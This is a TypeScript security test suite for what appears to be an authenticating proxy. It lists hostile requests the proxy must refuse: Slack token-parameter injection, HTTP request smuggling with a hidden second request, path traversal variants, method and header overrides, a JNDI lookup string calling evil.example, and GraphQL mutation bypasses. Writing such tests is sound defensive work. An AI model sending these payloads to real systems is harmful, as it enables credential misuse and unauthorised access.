import type { TestAgent } from '../support/agent-client.ts'
import type { Answer } from '../support/wire.ts'
import { harmless, refused, type Attack, type AttackFamily } from './attack.ts'
import type { HostileWorld } from './hostile-world.ts'

const FORM = 'application/x-www-form-urlencoded'
const CREDENTIAL = ['client_credential_refused', 'body_refused', 'policy_denied', 'path_refused', 'header_refused']

/** Slack takes its token as a parameter: one of the client's own must not replace ours. */
const slack = (body: string, type: string) => (agent: TestAgent): Promise<Answer> => agent.call('POST', 'https://slack.com/api/chat.postMessage', { body, type })
const NAMES = ['token', 'TOKEN', 'Token', 'tok%65n', '%74oken', '%2574oken', 'token%20', '+token', 'token[]', 'token[0]', 'token.x']
const parameters: readonly Attack[] = [
  ...NAMES.flatMap((name) => [
    refused(`Slack, a form with ${name}`, CREDENTIAL, slack(`channel=C0CODEREVIEW&text=hi&${name}=xoxb-mine`, FORM)),
    refused(`Slack, a form with ${name} first, after a semicolon`, CREDENTIAL, slack(`a=b;${name}=xoxb-mine&channel=C0CODEREVIEW&text=hi`, FORM)),
    refused(`Slack, ${name} in the query`, CREDENTIAL, (agent) => agent.call('POST', `https://slack.com/api/chat.postMessage?${name}=xoxb-mine`,
      { body: 'channel=C0CODEREVIEW&text=hi', type: FORM })),
  ]),
  ...['token', 'TOKEN', ' token', 'token ', '\\u0074oken'].map((name) => refused(`Slack, JSON with ${JSON.stringify(name)}`, CREDENTIAL,
    slack(`{"channel":"C0CODEREVIEW","text":"hi","${name}":"xoxb-mine"}`, 'application/json'))),
  refused('Slack, JSON that says the channel twice', ['body_refused'], slack('{"channel":"C0CODEREVIEW","channel":"C0GENERAL","text":"hi"}', 'application/json')),
  refused('Slack, a form that says the channel twice', ['body_refused', 'policy_denied'], slack('channel=C0CODEREVIEW&channel=C0GENERAL&text=hi', FORM)),
  refused('Slack, JSON as a form', [...CREDENTIAL], slack('{"token":"xoxb-mine","channel":"C0CODEREVIEW","text":"hi"}', FORM)),
  refused('Slack, multipart', ['body_refused', 'policy_denied', 'client_credential_refused'],
    slack('--x\r\nContent-Disposition: form-data; name="token"\r\n\r\nxoxb-mine\r\n--x--\r\n', 'multipart/form-data; boundary=x')),
  ...['utf-16', 'utf-7', 'ibm037', 'shift_jis'].map((charset) => refused(`Slack, JSON in ${charset}`, ['body_refused', 'header_refused'],
    slack('{"channel":"C0CODEREVIEW","text":"hi"}', `application/json; charset=${charset}`))),
  ...['gzip', 'deflate', 'br', 'zstd', 'identity, gzip'].map((coding) => refused(`Slack, a body that says ${coding}`, ['body_refused', 'header_refused',
    'request_ambiguous'], (agent) =>
    agent.call('POST', 'https://slack.com/api/chat.postMessage', { body: '{"channel":"C0CODEREVIEW","text":"hi"}', fields: [`Content-Encoding: ${coding}`] }))),
  ...['text/plain', 'application/octet-stream', 'application/json, text/plain', 'application/xml',
    ''].map((type) => refused(`Slack, a body of type ${JSON.stringify(type)}`, ['body_refused', 'header_refused', 'policy_denied'],
    slack('{"channel":"C0CODEREVIEW","text":"hi"}', type))),
  ...['chat.postMessage.json', 'chat.postMessage/', 'chat.PostMessage', 'admin.users.list', 'auth.test', 'auth.revoke', 'users.list', 'oauth.v2.access',
    'tooling.tokens.rotate', 'conversations.history', 'files.upload', 'search.messages', 'apps.uninstall'].map((method) =>
    refused(`Slack, ${method}`, ['policy_denied', 'consent_required', 'operation_unknown', 'authority_insufficient'], (agent) => agent.call('POST',
      `https://slack.com/api/${method}`, { body: 'channel=C0CODEREVIEW&text=hi', type: FORM }))),
]

/** What would have the upstream say, or do, something else with the credential. */
const games: readonly Attack[] = [
  ...['TRACE', 'TRACK', 'DEBUG', 'CONNECT2', 'PROPFIND', 'get'].flatMap((method) => [
    refused(`${method} by base URL`, ['method_refused', 'request_malformed'], (agent) => agent.reverse(method, '/recorder/v1/a')),
    refused(`${method} in a tunnel`, ['method_refused', 'request_malformed'], (agent) => agent.call(method, 'https://recorder.internal/v1/a')),
  ]),
  ...['X-HTTP-Method-Override: TRACE', 'X-HTTP-Method: DELETE', 'X-Method-Override: PUT', 'Impersonate-User: bob', 'Sudo: root', 'On-Behalf-Of: bob',
    'X-Impersonate: bob', 'Connection: Authorization', 'Connection: close, Authorization', 'Connection: X-Forwarded-For, Host', 'X_Authorization: mine',
    'Authorization_: mine', 'HTTP_AUTHORIZATION: mine'].map((field) =>
    refused(field, 'header_refused', (agent) => agent.reverse('GET', '/recorder/v1/a', { fields: [field] }))),
  ...['_method=DELETE', '_METHOD=delete', '%5Fmethod=TRACE', 'access_token=mine', 'ACCESS%5FTOKEN=mine'].map((query) => refused(`?${query}`,
    ['request_ambiguous', 'header_refused', ...CREDENTIAL], (agent) => agent.reverse('GET', `/recorder/v1/a?${query}`))),
  ...['Max-Forwards: 0', 'Cookie: session=mine', 'X-Api-Key: mine', 'X-Auth-Token: mine', 'Private-Token: mine', 'X-Forwarded-For: 127.0.0.1', 'Range: bytes=0-0',
    'Accept-Encoding: gzip, br, zstd', 'If-None-Match: *', 'Origin: https://evil.example', 'Referer: https://evil.example/', 'Cache-Control: no-cache',
    'Pragma: no-cache', 'X-Forwarded-Prefix: /evil', 'X-Cache-Key: a', 'Via: 1.1 evil', 'Expect: 100-continue', 'Prefer: return=representation',
    'Traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01', 'Accept: ${jndi:ldap://evil.example}'].map((field) =>
    harmless(`${field} changes nothing`, (agent) => agent.reverse('GET', '/recorder/v1/a', { fields: [field] }))),
  ...['websocket', 'h2c', 'TLS/1.2', 'connect-udp', 'HTTP/3', 'raw'].map((protocol) => harmless(`an upgrade to ${protocol} switches nothing`, (agent) =>
    agent.reverse('GET', '/recorder/v1/a', { fields: ['Connection: Upgrade', `Upgrade: ${protocol}`, 'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=='] }), [200, 400, 403, 426, 501])),
]

/** A second request hidden in, or behind, the first. */
const HIDDEN = (world: HostileWorld): string => `GET /github/repos/acme-corp/backend/hooks HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${world.alice.access}\r\n\r\n`
const smuggled: readonly Attack[] = [
  ['Content-Length: 4', 'Transfer-Encoding: chunked'], ['Transfer-Encoding: chunked', 'Content-Length: 4'], ['Content-Length: 0', 'Content-Length: 90'],
    ['Content-Length: 0,90'], ['Content-Length: +4'], ['Transfer-Encoding: chunked', 'Transfer-Encoding: x'], ['Transfer-Encoding: x, chunked'],
    ['Transfer-Encoding:\x0bchunked'], ['Transfer-Encoding : chunked'], ['X: a\nTransfer-Encoding: chunked'], ['X: a\rTransfer-Encoding: chunked'],
    ['Transfer-Encoding:\r\n chunked'], ['Content-Length: 4\0'], ['Content_Length: 4'], ['Transfer-Encoding: "chunked"'], ['Transfer-Encoding: CHUNKED;q=1'],
].map((fields) => refused(`smuggled by ${JSON.stringify(fields.join(' | '))}`, ['request_ambiguous', 'request_malformed', 'header_refused'], (agent, world) =>
  agent.raw(`POST /recorder/v1/a HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${world.alice.access}\r\n${fields.join('\r\n')}\r\n\r\n0\r\n\r\n${HIDDEN(world)}`)))

/** Paths that one reader takes for another's. */
const PATHS = ['/repos/acme-corp/backend/../../../user', '/repos/acme-corp/backend/pulls/42/../../../../../user/keys',
  '/repos/acme-corp/backend/%2e%2e/prod-payments/pulls', '/repos/acme-corp/backend%2f..%2fprod-payments/pulls', '/repos/acme-corp%2Fbackend/pulls/42',
  '/repos/acme-corp//backend/pulls/42', '//repos/acme-corp/backend/pulls/42', '/repos/acme-corp/backend;x/pulls/42',
  '/repos/acme-corp/backend/pulls/42;/../../prod-payments', '/repos/acme-corp/backend\\..\\prod-payments/pulls/1', '/repos/acme-corp/backend/pulls/%34%32',
  '/repos/acme-corp/%62ackend/pulls/42', '/repos/acme-corp/backend/pulls/42%00.json', '/repos/acme-corp/backend/pulls/42%0d%0aX: y',
  '/repos/acme-corp/backend/pulls/42#/../../x', '/repos/acme-corp/backend/pulls/42/.', '/repos/./acme-corp/backend/pulls/42',
  '/repos/acme-corp/../acme-corp/backend/pulls/42', '/repos/acme-corp/backend/contents/..%2f..%2fprod-payments',
  '/repos/acme-corp/backend/contents/%2e%2e/%2e%2e/prod-payments/contents/x', '/repos/acme-corp/backend/git/ref/..%2F..%2F..%2Fprod-payments',
  '/repos/acme-corp/backend/contents/a%252f..%252f..', '/repos/acme-corp/backend/contents/%5c..%5c', '/REPOS/acme-corp/backend/pulls/42',
  '/repos/acme-corp/backend/pulls/0x2a', '/repos/acme-corp/..%c0%af/pulls', '/repos/acme-corp/%ef%bc%8e%ef%bc%8e/pulls', '/repos/acme-corp/backend/pulls/٤٢']
const paths: readonly Attack[] = PATHS.map((path) =>
  refused(`/github${path}`, ['path_refused', 'request_malformed', 'operation_unknown', 'policy_denied', 'consent_required'], (agent, { alice }) =>
    agent.raw(Buffer.from(`GET /github${path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${alice.access}\r\n\r\n`, 'utf8'))))

/** What is judged by its document, not by its address. */
const GRAPHQL = ['{ viewer { login } }', 'mutation { deleteRef(input: {refId: "x"}) { clientMutationId } }',
  'query A { viewer { login } } mutation B { deleteRef(input: {refId: "x"}) { clientMutationId } }', '{ __schema { types { name } } }',
  '{ a: viewer { login } b: organization(login: "evil") { id } }', 'subscription { x }', '{ node(id: "x") { id } }', '', '{', '# only a comment']
const documents: readonly Attack[] = [
  ...GRAPHQL.map((query) => refused(`GraphQL: ${JSON.stringify(query.slice(0, 40))}`, ['policy_denied', 'consent_required', 'operation_unknown', 'body_refused'],
    (agent) => agent.call('POST', 'https://api.github.com/graphql', { body: JSON.stringify({ query }) }))),
  ...['[{"query":"{ viewer { login } }"}]', '{"query":"{ viewer { login } }","query":"mutation { a }"}',
    '{"extensions":{"persistedQuery":{"version":1,"sha256Hash":"aa"}}}', '{"id":"stored"}', '"query"', 'null',
    '{"query":1}'].map((body) => refused(`GraphQL, the body ${body.slice(0, 40)}`, ['body_refused', 'operation_unknown', 'policy_denied', 'consent_required'],
    (agent) => agent.call('POST', 'https://api.github.com/graphql', { body }))),
  refused('GraphQL by GET', ['operation_unknown', 'policy_denied', 'request_malformed', 'path_refused', 'method_refused', 'body_refused'],
    (agent) => agent.call('GET', 'https://api.github.com/graphql?query=%7Bviewer%7Blogin%7D%7D')),
  refused('GraphQL at another path', ['operation_unknown', 'policy_denied'], (agent) => agent.call('POST', 'https://api.github.com/api/graphql',
    { body: '{"query":"{ viewer { login } }"}' })),
]

export const requestAttacks: readonly AttackFamily[] = [
  { family: 'credentials of the client’s own', attacks: parameters },
  { family: 'methods, headers, upgrades', attacks: games },
  { family: 'smuggled requests', attacks: smuggled },
  { family: 'paths', attacks: paths },
  { family: 'GraphQL', attacks: documents },
]
